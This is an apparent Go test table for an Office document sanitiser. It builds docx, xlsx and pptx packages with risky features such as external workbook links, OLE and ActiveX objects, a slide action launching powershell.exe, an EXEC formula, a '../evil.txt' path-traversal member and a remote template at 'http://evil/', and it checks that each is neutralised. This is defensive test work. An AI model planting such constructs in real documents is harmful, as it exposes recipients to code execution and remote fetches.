	{name: "chart of another workbook", rule: "ooxml.external-reference", action: sanitize.Replaced, gone: []string{"[1]", "numRef", "strRef", "numCache"}, stays: []string{"<c:tx><c:v>売上</c:v></c:tx>", "<c:numLit><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>5</c:v></c:pt></c:numLit>", "<c:strLit>"},
		pkg: func() *pkg {
			p := xlsx("", `<drawing r:id="rId2"/>`, "")
			p.add("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml", `<xdr:wsDr `+nsXD+` `+nsR+` `+nsC+`><c:chart r:id="rId1"/></xdr:wsDr>`)
			p.add("xl/charts/chart1.xml", typeDraw+"chart+xml", `<c:chartSpace `+nsC+`><c:ser><c:tx><c:strRef><c:f>[1]S!$A$1</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>売上</c:v></c:pt></c:strCache></c:strRef></c:tx><c:cat><c:strRef><c:f>[1]S!$A$2</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>四月</c:v></c:pt></c:strCache></c:strRef></c:cat><c:val><c:numRef><c:f>[1]S!$B$1</c:f><c:numCache><c:ptCount val="1"/><c:pt idx="0"><c:v>5</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser></c:chartSpace>`)
			return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"drawing", "../drawings/drawing1.xml").rel("xl/drawings/drawing1.xml", "rId1", relO+"chart", "../charts/chart1.xml")
		}},

	{name: "action", rule: "ooxml.action", action: sanitize.Neutralised, gone: []string{"ppaction", "powershell", "hlink"},
		pkg: func() *pkg {
			return pptx(`<p:sp><p:nvSpPr><p:cNvPr id="2" name="b"><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>`).rel("ppt/slides/slide1.xml", "rId2", relO+"hyperlink", "external:powershell.exe")
		}},
	{name: "jump in the show", stays: []string{"ppaction://hlinkshowjump?jump=nextslide"},
		pkg: func() *pkg {
			return pptx(`<p:sp><p:nvSpPr><p:cNvPr id="2" name="b"><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/></p:cNvPr></p:nvSpPr></p:sp>`)
		}},
	{name: "frame becomes its picture", rule: "ooxml.ole", action: sanitize.Replaced, gone: []string{"oleObj", "graphicFrame", "MARKER", `id="0"`}, stays: []string{`<p:pic xmlns:q="urn:schemas-microsoft-com:vml"><p:nvPicPr><p:cNvPr id="4" name="obj"/>`, `r:embed="rId3"`},
		pkg: func() *pkg {
			p := pptx(`<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="obj"/></p:nvGraphicFramePr><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><mc:AlternateContent><mc:Choice xmlns:v="urn:schemas-microsoft-com:vml" Requires="v"><p:oleObj spid="_x" progId="Package" r:id="rId2"><p:embed/></p:oleObj></mc:Choice><mc:Fallback xmlns:q="urn:schemas-microsoft-com:vml"><p:oleObj progId="Package" r:id="rId2"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/></p:nvPicPr><p:blipFill><a:blip r:embed="rId3"/></p:blipFill></p:pic></p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>`)
			p.add("ppt/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", "\xD0\xCFMARKER").add("ppt/media/image1.png", "image/png", pngBytes())
			return p.rel("ppt/slides/slide1.xml", "rId2", relO+"oleObject", "../embeddings/oleObject1.bin").rel("ppt/slides/slide1.xml", "rId3", relO+"image", "../media/image1.png")
		}},
	{name: "controls become their pictures", rule: "ooxml.activex", action: sanitize.Removed, gone: []string{"control", "MARKER", `id="0"`},
		stays: []string{`<p:pic><p:nvPicPr><p:cNvPr id="900000" name="c1"/></p:nvPicPr><p:blipFill><a:blip r:embed="rId3"/></p:blipFill></p:pic><p:pic><p:nvPicPr><p:cNvPr id="900001" name="c2"/></p:nvPicPr></p:pic></p:spTree></p:cSld>`},
		pkg: func() *pkg {
			p := pptx("").add("ppt/media/image1.png", "image/png", pngBytes()).add("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<x>MARKER</x>")
			p.members["ppt/slides/slide1.xml"] = strings.Replace(p.members["ppt/slides/slide1.xml"], "</p:cSld>", `<p:controls><mc:AlternateContent><mc:Choice Requires="v"><p:control spid="1" name="c1" r:id="rId2"/></mc:Choice><mc:Fallback><p:control name="c1" r:id="rId2"><p:pic><p:nvPicPr><p:cNvPr id="0" name="c1"/></p:nvPicPr><p:blipFill><a:blip r:embed="rId3"/></p:blipFill></p:pic></p:control></mc:Fallback></mc:AlternateContent><p:control name="c2" r:id="rId2"><p:pic><p:nvPicPr><p:cNvPr id="0" name="c2"/></p:nvPicPr></p:pic></p:control></p:controls></p:cSld>`, 1)
			return p.rel("ppt/slides/slide1.xml", "rId2", relO+"control", "../activeX/activeX1.xml").rel("ppt/slides/slide1.xml", "rId3", relO+"image", "../media/image1.png")
		}},
	{name: "media", rule: "ooxml.media", action: sanitize.Removed, gone: []string{"videoFile", "media1", "p14:media", "p:video", "timing", "extLst"}, stays: []string{`r:embed="rId3"`},
		pkg: func() *pkg {
			p := pptx(`<p:pic><p:nvPicPr><p:nvPr><a:videoFile r:link="rId2"/><p:extLst><p:ext uri="{DAA4B4D4-6D71-4841-9C94-3DE7FCFB9230}"><p14:media xmlns:p14="http://schemas.microsoft.com/office/powerpoint/2010/main" r:embed="rId4"/></p:ext></p:extLst></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:embed="rId3"/></p:blipFill></p:pic>`)
			p.members["ppt/slides/slide1.xml"] = strings.Replace(p.members["ppt/slides/slide1.xml"], "</p:sld>", `<p:timing><p:tnLst><p:video><p:cMediaNode/></p:video></p:tnLst></p:timing></p:sld>`, 1)
			p.add("ppt/media/media1.mp4", "video/mp4", "x").add("ppt/media/image1.png", "image/png", pngBytes())
			return p.rel("ppt/slides/slide1.xml", "rId2", relO+"video", "../media/media1.mp4").rel("ppt/slides/slide1.xml", "rId4", "http://schemas.microsoft.com/office/2007/relationships/media", "../media/media1.mp4").rel("ppt/slides/slide1.xml", "rId3", relO+"image", "../media/image1.png")
		}},
	{name: "verb", rule: "ooxml.timing", action: sanitize.Removed, gone: []string{"verb", "timing"},
		pkg: func() *pkg {
			p := pptx("")
			p.members["ppt/slides/slide1.xml"] = strings.Replace(p.members["ppt/slides/slide1.xml"], "</p:sld>", `<p:timing><p:tnLst><p:cmd type="verb" cmd="0"/></p:tnLst></p:timing></p:sld>`, 1)
			return p
		}},
	{name: "ink", rule: "ooxml.ink", action: sanitize.Removed, gone: []string{"contentPart"},
		pkg: func() *pkg {
			return pptx(`<p:contentPart r:id="rId9"/>`).rel("ppt/slides/slide1.xml", "rId9", relO+"customXml", "../ink/ink1.xml")
		}},
	{name: "model", rule: "ooxml.active-xml", action: sanitize.Removed, gone: []string{"model3d", "mc:Choice Requires=\"am3d\""}, stays: []string{"代わり"},
		pkg: func() *pkg {
			return pptx(`<mc:AlternateContent><mc:Choice xmlns:am3d="http://schemas.microsoft.com/office/drawing/2017/model3d" Requires="am3d"><p:sp><am3d:model3d r:embed="rId9"/></p:sp></mc:Choice><mc:Fallback><p:sp><p:txBody><a:p><a:r><a:t>代わり</a:t></a:r></a:p></p:txBody></p:sp></mc:Fallback></mc:AlternateContent>`)
		}},
	{name: "chart with its workbook", stays: []string{"externalData", "../embeddings/Microsoft_Excel_Sheet1.xlsx"},
		pkg: func() *pkg { return chartDeck(xlsx(`<c r="A1"><v>1</v></c>`, "", "")) }},
	{name: "chart with a workbook that runs", rule: "ooxml.package", action: sanitize.Replaced, stays: []string{"externalData"},
		pkg: func() *pkg { return chartDeck(xlsx(`<c r="A1"><f>EXEC("x")</f><v>1</v></c>`, "", "")) }},
	{name: "package", rule: "ooxml.package", action: sanitize.Removed, gone: []string{"embeddings"},
		pkg: func() *pkg {
			p := docx("").add("word/embeddings/a.xlsx", typeSheet+"sheet", "PK")
			return p.rel(p.main, "rId5", relO+"package", "embeddings/a.xlsx")
		}},
	{name: "hidden sheet", stays: []string{`state="hidden"`}, pkg: func() *pkg {
		p := xlsx("", "", "")
		p.members[p.main] = strings.Replace(p.members[p.main], `sheetId="1"`, `sheetId="1" state="hidden"`, 1)
		return p
	}},
	{name: "very hidden sheet", stays: []string{`state="veryHidden"`}, gone: []string{"absPath"}, pkg: func() *pkg {
		p := xlsx("", "", "")
		p.members[p.main] = strings.Replace(p.members[p.main], "<sheets>", `<x15ac:absPath xmlns:x15ac="http://schemas.microsoft.com/office/spreadsheetml/2010/11/ac" url="C:\秘密\"/><sheets>`, 1)
		p.members[p.main] = strings.Replace(p.members[p.main], "</sheets>", `<sheet name="隠" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>`, 1)
		return p.add("xl/worksheets/sheet2.xml", typeSheet+"worksheet+xml", sheetXML("", "")).rel(p.main, "rId2", relO+"worksheet", "worksheets/sheet2.xml")
	}},
	{name: "sheet that is none", rule: "ooxml.sheet", action: sanitize.Replaced, gone: []string{"MARKER"}, stays: []string{`name="M"`, "<sheetData/>"}, pkg: func() *pkg {
		p := xlsx("", "", "")
		p.members[p.main] = strings.Replace(p.members[p.main], "<sheets>", `<sheets><sheet name="M" sheetId="2" r:id="rId2"/>`, 1)
		return p.add("xl/sheet.bin", "application/x", "MARKER").rel(p.main, "rId2", relO+"worksheet", "sheet.bin")
	}},
	{name: "drawing that is no XML", rule: "ooxml.vml", action: sanitize.Removed, gone: []string{"vmlDrawing1", "legacyDrawing", "MARKER"}, pkg: func() *pkg {
		p := xlsx("", `<legacyDrawing r:id="rId2"/>`, "").add("xl/drawings/vmlDrawing1.vml", "application/vnd.openxmlformats-officedocument.vmlDrawing", `<xml>MARKER<b></xml>`)
		return p.rel("xl/worksheets/sheet1.xml", "rId2", relO+"vmlDrawing", "../drawings/vmlDrawing1.vml")
	}},
	{name: "slicer", rule: "ooxml.slicer", action: sanitize.Removed, gone: []string{"slicer", "pivot"}, stays: []string{"代わり"}, pkg: func() *pkg {
		p := xlsx("", `<drawing r:id="rId3"/><extLst><ext uri="{A8765BA9-456A-4dab-B4F3-ACF838C121DE}"><x14:slicerList><x14:slicer r:id="rId2"/></x14:slicerList></ext></extLst>`, `<pivotCaches><pivotCache cacheId="1" r:id="rId5"/></pivotCaches>`)
		p.add("xl/pivotCache/pivotCacheDefinition1.xml", typeSheet+"pivotCacheDefinition+xml", `<pivotCacheDefinition `+nsS+`><cacheSource type="worksheet"><worksheetSource `+nsR+` r:id="rId1"/></cacheSource></pivotCacheDefinition>`)
		p.add("xl/slicers/slicer1.xml", "application/vnd.ms-excel.slicer+xml", `<slicers xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"/>`)
		p.add("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml", `<xdr:wsDr `+nsXD+` `+nsMC+`><mc:AlternateContent><mc:Choice xmlns:sle="http://schemas.microsoft.com/office/drawing/2010/slicer" Requires="sle"><xdr:graphicFrame macro=""><sle:slicer name="s"/></xdr:graphicFrame></mc:Choice><mc:Fallback><xdr:sp macro="" textlink=""><xdr:txBody>代わり</xdr:txBody></xdr:sp></mc:Fallback></mc:AlternateContent></xdr:wsDr>`)
		p.rel(p.main, "rId5", relO+"pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml").rel("xl/worksheets/sheet1.xml", "rId2", "http://schemas.microsoft.com/office/2007/relationships/slicer", "../slicers/slicer1.xml")
		return p.rel("xl/worksheets/sheet1.xml", "rId3", relO+"drawing", "../drawings/drawing1.xml")
	}},
	{name: "page of the web", rule: "ooxml.web-video", action: sanitize.Removed, gone: []string{"iframe", "webVideoPr", "extLst"}, pkg: func() *pkg {
		return docx(`<w:p><w:r><w:drawing><a:graphic><a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe&gt;"/></a:ext></a:extLst></a:graphic></w:drawing></w:r></w:p>`)
	}},
	{name: "title", gone: []string{"秘密", "creator"}, stays: []string{"<dc:title>令和八年度 &lt;案&gt;</dc:title>", "metadata/core-properties"}, pkg: func() *pkg {
		p := docx("").add("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>秘密</dc:creator><dc:title> 令和八年度 &lt;案&gt;</dc:title></cp:coreProperties>`)
		return p.rel("", "rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml")
	}},
	{name: "title with a control", gone: []string{"題", "core.xml"}, pkg: func() *pkg {
		p := docx("").add("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>題&#x85;名</dc:title></cp:coreProperties>`)
		return p.rel("", "rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml")
	}},
	{name: "member that leads out", rule: "ooxml.member", action: sanitize.Removed, gone: []string{"MARKER"}, pkg: func() *pkg {
		return docx("").add("../evil.txt", "", "MARKER")
	}},
	{name: "more findings than lines", rule: "ooxml.more", action: sanitize.Removed, gone: []string{"MARKER"}, pkg: func() *pkg {
		p := docx("")
		for i := range 250 {
			h := fmt.Sprintf("header%d.xml", i+1)
			p.add("word/"+h, typeWord+"header+xml", `<w:hdr `+nsW+` `+nsR+`><w:altChunk r:id="rId1"/></w:hdr>`).rel(p.main, fmt.Sprintf("rId%d", i+10), relO+"header", h)
		}
		return p
	}},
	{name: "strict", stays: []string{"purl.oclc.org", "本文"}, rule: "ooxml.template", action: sanitize.Removed, gone: []string{"evil", "attachedTemplate"},
		pkg: func() *pkg {
			const r = "http://purl.oclc.org/ooxml/officeDocument/relationships"
			p := &pkg{main: "word/document.xml", members: map[string]string{}, types: map[string]string{}, rels: map[string]string{}}
			p.add(p.main, typeWord+"document.main+xml", `<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p></w:body></w:document>`)
			p.add("word/settings.xml", typeWord+"settings+xml", `<q:settings xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main" xmlns:i="`+r+`"><q:attachedTemplate i:id="rId1"/></q:settings>`)
			return p.rel("", "rId1", r+"/officeDocument", p.main).rel(p.main, "rId2", r+"/settings", "settings.xml").rel("word/settings.xml", "rId1", r+"/attachedTemplate", "external:http://evil/")
		}},
}

func chartDeck(book *pkg) *pkg {
	p := pptx(`<p:graphicFrame><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart ` + nsC + ` r:id="rId2"/></a:graphicData></a:graphic></p:graphicFrame>`)
	p.add("ppt/charts/chart1.xml", typeDraw+"chart+xml", `<c:chartSpace `+nsC+` `+nsR+`><c:externalData r:id="rId1"><c:autoUpdate val="0"/></c:externalData></c:chartSpace>`)
	p.add("ppt/embeddings/a.xlsx", typeSheet+"sheet", string(book.bytes(&testing.T{})))
	return p.rel("ppt/slides/slide1.xml", "rId2", relO+"chart", "../charts/chart1.xml").rel("ppt/charts/chart1.xml", "rId1", relO+"package", "../embeddings/a.xlsx")
}
